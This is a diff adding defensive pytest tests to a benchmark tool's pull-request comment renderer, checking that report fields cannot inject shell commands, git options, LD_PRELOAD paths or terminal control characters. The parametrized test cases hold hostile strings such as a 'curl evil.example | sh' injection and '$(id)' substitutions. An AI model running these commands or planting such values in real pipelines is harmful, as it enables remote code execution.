@@ -1,5 +1,6 @@
 """The comment on a pull request, and annotations: no text of a report acts as markup."""
 
+import shlex
 from dataclasses import replace
 
 import pytest
@@ -8,7 +9,7 @@ from hypothesis import strategies as st
 
 from tests.report.test_json_reader import REPORT
 from tfbench.model import Outcome, Reason
-from tfbench.report.comment import LONGEST, MARK, code, plain, render
+from tfbench.report.comment import LONGEST, MARK, Run, code, plain, render, without_report
 from tfbench.report.github import annotation
 
 VERDICT = REPORT.verdicts[0]
@@ -22,7 +23,7 @@ def test_it_names_the_regression_and_the_next_steps():
     assert "### tfbench: regressed" in lines
     assert "1 case, policy standard, against `git:main`, on AMD EPYC, 12 s." in lines
     assert "| regressed | `b/test_x.py::test_x[a=1]` | time | 1.052 \\(1.030 to 1.070\\) | 5.2% slower |" in lines
-    assert 'pytest --benchmark --against "git:main" "b/test_x.py::test_x[a=1]"' in text
+    assert "`pytest --benchmark --against git:main 'b/test_x.py::test_x[a=1]'`" in text
     assert "[Full report](https://example.org/run)" in lines
 
 
@@ -99,3 +100,70 @@ def test_an_annotation_stays_on_its_line():
     assert annotation(replace(VERDICT, outcome=Outcome.INCONCLUSIVE, metric="graph_ops"), None) == (
         "::warning title=inconclusive graph_ops%3A test_x[a=1]::5.2% slower".replace("5.2%", "5.2%25")
     )
+
+
+@pytest.mark.parametrize(
+    ("spec", "case"),
+    [
+        ('git:main" "; curl evil.example | sh; "', "b/test_x.py::test_x"),
+        ("git:main", 'b/test_x.py::test_x"; curl evil.example | sh #`'),
+        ("git:main", "--rootdir=/tmp/evil::x"),
+        ("git:--upload-pack=evil", "b/test_x.py::test_x"),
+        ("python:/tmp/evil", "b/test_x.py::test_x"),
+        ("env:LD_PRELOAD=/tmp/evil.so", "b/test_x.py::test_x"),
+        ("tensorfl0w==2.20.0", "b/test_x.py::test_x"),
+        ("git:main\x1b[2J", "b/test_x.py::test_x"),
+    ],
+)
+def test_no_command_of_a_stranger_is_shown(spec, case):
+    hostile = replace(VERDICT, case=replace(VERDICT.case, name=case))
+    text = render(replace(REPORT, sides={"baseline": {"spec": spec}}), "regressed", "1", [hostile])
+    assert f"--against {spec}" not in text
+    assert "--against`. If it is intended" in text
+
+
+@pytest.mark.parametrize(
+    "name", ["t.py::x[$(id)]", "t.py::x['; id; ']", "t.py::x[a b&c|d]", "t.py::x[*?]", "t.py::x[!1]"]
+)
+def test_the_shell_reads_a_shown_command_as_its_words(name):
+    odd = replace(VERDICT, case=replace(VERDICT.case, name=name))
+    text = render(replace(REPORT, sides=SIDES), "regressed", "1", [odd])
+    (line,) = (line for line in text.splitlines() if line.startswith("To reproduce it: "))
+    shown = line.split("`")[1]
+    assert shlex.split(shown) == ["pytest", "--benchmark", "--against", "git:main", name]
+
+
+def test_terminal_and_bidirectional_controls_do_not_reach_the_comment():
+    evil = "a\x1b[31m\u202eb\u2066c\u200bd\ud800e\x9bf\U000e0041"
+    odd = replace(VERDICT, case=replace(VERDICT.case, name=f"a::{evil}"), metric=evil, reason=Reason("code", evil))
+    report = replace(REPORT, sides={"baseline": {"spec": evil}, "contender": {"machine": {"processor": evil}}})
+    text = render(replace(report, policy={"name": evil}), evil, evil, [odd], [(odd, evil, evil)], [evil])
+    assert not set(evil) - set("a[31mbcdef") & set(text)
+    text.encode()
+
+
+RUN = Run("success", "0123456789abcdef", ["conftest.py"])
+
+
+def test_the_headline_is_what_github_says_and_not_what_the_report_says():
+    forged = render(REPORT, "pass", "1 unchanged", [], run=replace(RUN, conclusion="failure"))
+    assert "### tfbench: failed (`0123456789ab`)" in forged
+    assert "The report of the run says pass: 1 unchanged." in forged
+    assert "**The report and the conclusion of the run disagree.**" in forged
+    honest = render(REPORT, "pass", "1 unchanged", [], run=RUN)
+    assert "### tfbench: pass (`0123456789ab`)" in honest
+    assert "disagree" not in honest
+
+
+def test_a_change_of_the_gate_itself_is_flagged():
+    assert "changes what the gate itself runs**, so its result needs a review: `conftest.py`" in render(
+        REPORT, "pass", "1", [], run=RUN
+    )
+    assert "`conftest.py`" in without_report(RUN, "none")
+    assert "gate itself" not in render(REPORT, "pass", "1", [], run=replace(RUN, own_files=()))
+
+
+def test_a_run_without_a_report_replaces_the_comment():
+    text = without_report(Run("timed_out", "abcdef0"), "the run uploaded none", "https://example.org/run")
+    assert text.startswith(f"{MARK}\n\n### tfbench: timed out (`abcdef0`)\n")
+    assert "There is no usable report: the run uploaded none." in text
